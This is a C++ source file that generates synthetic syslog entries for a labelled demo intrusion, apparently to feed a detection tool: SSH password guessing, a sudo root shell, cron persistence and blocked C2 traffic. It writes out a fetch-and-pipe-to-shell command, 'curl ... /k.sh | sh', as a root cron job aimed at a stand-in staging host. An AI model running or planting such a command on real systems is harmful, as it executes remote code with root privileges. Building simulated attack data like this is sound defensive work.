// The Linux half of the demo intrusion: SSH password guessing against web-01 until a password
// works, sudo to a root shell, a cron job that fetches a script and calls the C2 (blocked).

#include "demo/demo_log.h"
#include "demo/demo_parts.h"
#include "demo/demo_random.h"
#include "demo/demo_world.h"

using namespace Qt::StringLiterals;

namespace vigil::demo {

namespace {

constexpr int kInfo = 6;
constexpr int kNotice = 5;

struct Writer {
    DemoLog& log;
    QString host;

    void line(qint64 t, const QString& app, const QString& pid, const QString& msg,
              const Label& label, int severity = kInfo)
    {
        log.addSyslog(t, host, app, pid, msg, severity, label);
    }
};

} // namespace

void addLinuxStory(DemoLog& log, const DemoRandom& root, qint64 startNs)
{
    DemoRandom rng = root.fork(u"story:linux"_s);
    const LinuxHost& web = linuxHost(u"web-01");
    Writer w{log, web.name};
    const QString ip = story::sshAttacker();
    const QString rhost = u"logname= uid=0 euid=0 tty=ssh ruser= rhost="_s + ip;
    qint64 t = startNs;
    qint64 pid = rng.range(20000, 30000);
    const auto nextPort = [&rng] { return QString::number(rng.range(32768, 60999)); };

    // ssh-brute-force: a reverse-DNS warning, then dozens of guessed names and passwords.
    const Label brute = attack(u"ssh-brute-force"_s);
    w.line(t, u"sshd"_s, QString::number(pid),
           u"Address "_s + ip + u" maps to scan-77.hosting.test, but this does not map back to "_s
               + u"the address - POSSIBLE BREAK-IN ATTEMPT!"_s,
           brute);
    static constexpr QStringView kInvalid[] = {
        u"admin", u"test",     u"oracle", u"ubuntu",    u"user",
        u"guest", u"postgres", u"git",    u"ftpuser",   u"support",
        u"pi",    u"jenkins",  u"hadoop", u"minecraft", u"administrator"};
    static constexpr QStringView kValid[] = {u"root", u"deploy"};
    const int connections = int(rng.range(30, 45));
    for (int c = 0; c < connections; ++c) {
        t += rng.range(8, 40) * kSecond;
        pid += rng.range(1, 40);
        const QString p = QString::number(pid);
        const QString port = nextPort();
        const bool invalid = rng.chance(700);
        const QString user = invalid ? rng.pick(kInvalid).toString() : rng.pick(kValid).toString();
        if (invalid) {
            w.line(t, u"sshd"_s, p,
                   u"Invalid user "_s + user + u" from "_s + ip + u" port "_s + port, brute);
            w.line(t, u"sshd"_s, p, u"pam_unix(sshd:auth): check pass; user unknown"_s, brute);
            w.line(t, u"sshd"_s, p, u"pam_unix(sshd:auth): authentication failure; "_s + rhost,
                   brute, kNotice);
        } else {
            w.line(t, u"sshd"_s, p,
                   u"pam_unix(sshd:auth): authentication failure; "_s + rhost + u"  user="_s + user,
                   brute, kNotice);
        }
        const int tries = int(rng.range(1, 3));
        for (int i = 0; i < tries; ++i) {
            w.line(t + (2 * i + 2) * kSecond, u"sshd"_s, p,
                   u"Failed password for "_s + (invalid ? u"invalid user "_s : QString()) + user
                       + u" from "_s + ip + u" port "_s + port + u" ssh2"_s,
                   brute);
        }
        w.line(t + (2 * tries + 3) * kSecond, u"sshd"_s, p,
               u"Connection closed by "_s
                   + (invalid ? u"invalid user "_s : u"authenticating user "_s) + user + u' ' + ip
                   + u" port "_s + port + u" [preauth]"_s,
               brute);
    }

    // ssh-valid-account: deploy's password is guessed.
    const Label valid = attack(u"ssh-valid-account"_s);
    t += rng.range(20, 60) * kSecond;
    const QString session = QString::number(pid += 7);
    const QString port = nextPort();
    w.line(t, u"sshd"_s, session,
           u"Failed password for deploy from "_s + ip + u" port "_s + port + u" ssh2"_s, brute);
    t += rng.range(2, 4) * kSecond;
    w.line(t, u"sshd"_s, session,
           u"Accepted password for deploy from "_s + ip + u" port "_s + port + u" ssh2"_s, valid);
    w.line(t, u"sshd"_s, session,
           u"pam_unix(sshd:session): session opened for user deploy(uid=1001) by (uid=0)"_s, valid);
    const QString logind = QString::number(rng.range(380, 900));
    const QString sessionNo = QString::number(rng.range(100, 9999));
    w.line(t, u"systemd-logind"_s, logind, u"New session "_s + sessionNo + u" of user deploy."_s,
           valid);

    // sudo-root-shell.
    const Label sudo = attack(u"sudo-root-shell"_s);
    t += rng.range(60, 180) * kSecond;
    const QString sudoPid = QString::number(pid += 31);
    w.line(t, u"sudo"_s, sudoPid,
           u"deploy : TTY=pts/0 ; PWD=/home/deploy ; USER=root ; COMMAND=/bin/bash"_s, sudo,
           kNotice);
    w.line(t, u"sudo"_s, sudoPid,
           u"pam_unix(sudo:session): session opened for user root(uid=0) by deploy(uid=1001)"_s,
           sudo);

    // cron-persistence: root's crontab gains a fetch-and-run job every 15 minutes.
    const Label cron = attack(u"cron-persistence"_s);
    t += rng.range(120, 360) * kSecond;
    const QString crontab = QString::number(pid += 12);
    w.line(t, u"crontab"_s, crontab, u"(root) BEGIN EDIT (root)"_s, cron);
    t += rng.range(20, 90) * kSecond;
    w.line(t, u"crontab"_s, crontab, u"(root) REPLACE (root)"_s, cron);
    w.line(t, u"crontab"_s, crontab, u"(root) END EDIT (root)"_s, cron);
    const qint64 reload = (t / kMinute + 1) * kMinute + rng.range(0, 3) * kSecond;
    w.line(reload, u"cron"_s, QString::number(rng.range(500, 900)),
           u"(root) RELOAD (crontabs/root)"_s, cron);

    t += rng.range(300, 900) * kSecond;
    w.line(t, u"sshd"_s, session,
           u"Received disconnect from "_s + ip + u" port "_s + port
               + u":11: disconnected by user"_s,
           valid);
    w.line(t, u"sshd"_s, session, u"pam_unix(sshd:session): session closed for user deploy"_s,
           valid);

    const Label c2 = attack(u"command-and-control"_s);
    const QString command =
        u"curl -fsSL http://"_s + story::stagingHost() + u"/k.sh | sh >/dev/null 2>&1"_s;
    const QString fw = linuxHost(u"fw-edge-01").name;
    DemoRandom fwRng = rng.fork(u"firewall"_s);
    for (qint64 run = (reload / (15 * kMinute) + 1) * (15 * kMinute); run < log.endNs() - kMinute;
         run += 15 * kMinute) {
        const QString cronPid = QString::number(rng.range(30000, 60000));
        w.line(run, u"CRON"_s, cronPid,
               u"pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)"_s, cron);
        w.line(run, u"CRON"_s, cronPid, u"(root) CMD ("_s + command + u')', cron);
        const qint64 blocked = run + rng.range(2, 6) * kSecond;
        log.addSyslog(blocked, fw, u"kernel"_s, QString(),
                      ufwBlock(fwRng, true, web.ip, story::c2Address(), u"TCP"_s,
                               int(fwRng.range(32768, 60999)), 4444),
                      4, c2);
        w.line(blocked + kSecond, u"CRON"_s, cronPid,
               u"pam_unix(cron:session): session closed for user root"_s, cron);
    }
}

} // namespace vigil::demo
